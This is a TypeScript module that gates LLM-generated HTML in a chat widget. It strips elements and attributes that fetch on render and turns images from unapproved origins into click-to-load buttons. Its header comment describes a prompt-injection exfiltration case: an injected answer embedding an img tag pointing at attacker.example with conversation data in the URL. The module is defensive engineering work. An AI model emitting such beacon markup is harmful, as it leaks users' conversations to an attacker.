/**
 * "Nothing in bot HTML causes a request on render unless its origin is allowed."
 *
 * An LLM answer steered by injected instructions can carry
 * `<img src="https://attacker.example/p.gif?d=…conversation…">`: the browser fetches it the
 * moment it renders, no click and no script needed. This module is the one place that
 * rule is enforced, for static `text` HTML and generations alike: `sanitizeToFragment`
 * runs every fragment through {@link gateFragment} after DOMPurify, before anything
 * reaches a live document (DOMPurify parses into an inert document, where nothing loads).
 *
 * The rule is a class, not a list of vectors:
 *  - an element that fetches by its nature (link, script, style, iframe, object, embed,
 *    video, audio, source, track, picture, input, svg, meta, base, …) is removed, whatever
 *    DOMPurify's allowlist says today;
 *  - every attribute that can make the browser fetch (src, srcset, poster, data, background,
 *    ping, lowsrc, imagesrcset, action, xlink:href, style, href on anything but <a>, …) is
 *    removed, except an <img src> whose origin is allowed;
 *  - an <img> whose origin is not allowed becomes a click-to-load placeholder
 *    (`part="blocked-media"`) naming the host: no request of any kind before the click.
 *
 * Allowed origins: the page's, the relay's, the platform's media origin (announced by the
 * relay) and the owner's `media-origins`; `*` in the list allows every origin (the owner's
 * explicit opt-out). Image and video *chunks* are not gated here: they are platform blocks,
 * not model output, and keep the URL policy (see the README's Security section).
 */
import { FORBIDDEN_CHARS } from './url-policy.js';

export interface MediaGateOptions {
  /**
   * Origins bot HTML may load images from on render. `'*'` in the list allows every
   * origin. Absent: the page's own origin and `mediaOrigins`.
   */
  readonly loadOrigins?: readonly string[];
  /** The URL policy's extra media origins (part of the default `loadOrigins`). */
  readonly mediaOrigins?: readonly string[];
  /** The placeholder's button text (localised by the caller). */
  readonly blockedLabel?: (host: string, alt: string) => string;
}

/** Elements that fetch something by their nature. Removed with their content. */
const FETCHING_ELEMENTS = new Set([
  'applet',
  'audio',
  'base',
  'bgsound',
  'embed',
  'frame',
  'frameset',
  'iframe',
  'image',
  'input',
  'isindex',
  'link',
  'meta',
  'object',
  'param',
  'picture',
  'portal',
  'script',
  'source',
  'style',
  'svg',
  'template',
  'track',
  'use',
  'video',
  'math',
  'fencedframe',
  'noscript',
  'xml',
]);

/** Attributes that can make a browser fetch (or run) something, on any element. */
const FETCHING_ATTRIBUTES = new Set([
  'action',
  'archive',
  'attributionsrc',
  'background',
  'cite',
  'classid',
  'codebase',
  'data',
  'dynsrc',
  'formaction',
  'icon',
  'imagesizes',
  'imagesrcset',
  'itemtype',
  'longdesc',
  'lowsrc',
  'manifest',
  'ping',
  'poster',
  'profile',
  'src',
  'srcdoc',
  'srcset',
  'style',
  'xlink:href',
  'xml:base',
  'href',
]);

/** Origins the visitor chose to load by clicking a placeholder (this page's lifetime). */
const loadedByVisitor = new Set<string>();
const MAX_REMEMBERED = 500;

const defaultLabel = (host: string, alt: string): string => (alt ? `Show image “${alt}” from ${host}` : `Show image from ${host}`);

/** Is `href` (already through the URL policy) allowed to load on render? */
export function mayLoadOnRender(href: string, loadOrigins: readonly string[] | undefined): boolean {
  let origin: string;
  try {
    origin = new URL(href).origin;
  } catch {
    return false;
  }
  if (origin === 'null') return false;
  if (loadedByVisitor.has(href)) return true;
  for (const candidate of loadOrigins ?? []) {
    if (candidate === '*') return true;
    try {
      if (new URL(candidate).origin === origin) return true;
    } catch {
      // a malformed entry allows nothing
    }
  }
  return false;
}

/**
 * Enforces the rule on a sanitized fragment, in place. Returns how many images were held
 * back as placeholders (tests, diagnostics).
 */
export function gateFragment(fragment: DocumentFragment, options: MediaGateOptions = {}): number {
  let blocked = 0;
  const label = options.blockedLabel ?? defaultLabel;
  const page = typeof location !== 'undefined' && /^https?:$/.test(location.protocol) ? [location.origin] : [];
  const loadOrigins = options.loadOrigins ?? [...page, ...(options.mediaOrigins ?? [])];
  for (const el of Array.from(fragment.querySelectorAll('*'))) {
    if (!fragment.contains(el)) continue; // removed with an ancestor
    const name = el.localName;
    if (FETCHING_ELEMENTS.has(name) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
      el.remove();
      continue;
    }
    for (const attr of Array.from(el.attributes)) {
      const attrName = attr.name.toLowerCase();
      if (!FETCHING_ATTRIBUTES.has(attrName) && !attrName.startsWith('on')) continue;
      if (attrName === 'href' && name === 'a') continue; // a link loads nothing until clicked
      if (attrName === 'src' && name === 'img') continue; // decided below
      el.removeAttribute(attr.name);
    }
    if (name === 'img') {
      const src = el.getAttribute('src');
      if (src === null) {
        el.remove();
      } else if (!mayLoadOnRender(src, loadOrigins)) {
        el.replaceWith(placeholder(el as HTMLImageElement, src, label));
        blocked++;
      }
    }
  }
  return blocked;
}

/** Whether `root` holds a click-to-load stand-in (its URL is in a listener: equal-looking ones differ). */
export const hasClickToLoad = (root: ParentNode): boolean => root.querySelector('.blocked-media') !== null;

/** Stand-ins a click replaced, to the image that took their place. */
const replaced = new WeakMap<Node, Node>();

/** `node`, or the image that replaced it if it was a clicked stand-in (whoever kept the node finds what is shown). */
export const shownNode = (node: Node): Node => replaced.get(node) ?? node;

/**
 * The click-to-load stand-in for a refused image: a native button naming the host, in a
 * `part="blocked-media"` wrapper. The image's URL lives only in this closure, never in
 * an attribute, so nothing (prefetchers, extensions, a later re-parse) can fetch it early.
 */
function placeholder(img: HTMLImageElement, src: string, label: (host: string, alt: string) => string): HTMLElement {
  const doc = img.ownerDocument;
  // Without the bot's bidi and control characters, which could reorder the label and leave
  // a host written in the alt as the only readable one (a split ignores the regex's lack of /g).
  const alt = (img.getAttribute('alt') ?? '').split(FORBIDDEN_CHARS).join('').trim();
  let host: string;
  try {
    host = new URL(src).host;
  } catch {
    host = '?';
  }
  const wrapper = doc.createElement('span');
  wrapper.setAttribute('part', 'blocked-media');
  wrapper.className = 'blocked-media';
  const button = doc.createElement('button');
  button.type = 'button';
  button.className = 'blocked-media-load';
  button.textContent = label(host, alt);
  button.addEventListener('click', () => {
    if (loadedByVisitor.size >= MAX_REMEMBERED) loadedByVisitor.clear();
    loadedByVisitor.add(src);
    // Built at click time, in the live document: the first moment the URL reaches the DOM.
    const loaded = wrapper.ownerDocument.createElement('img');
    loaded.setAttribute('alt', alt);
    loaded.setAttribute('decoding', 'async');
    loaded.setAttribute('referrerpolicy', 'no-referrer');
    loaded.setAttribute('tabindex', '-1');
    loaded.setAttribute('src', src);
    wrapper.replaceWith(loaded);
    replaced.set(wrapper, loaded);
    // Keep the keyboard where it was: on the image that replaced the button.
    loaded.focus();
  });
  wrapper.append(button);
  return wrapper;
}
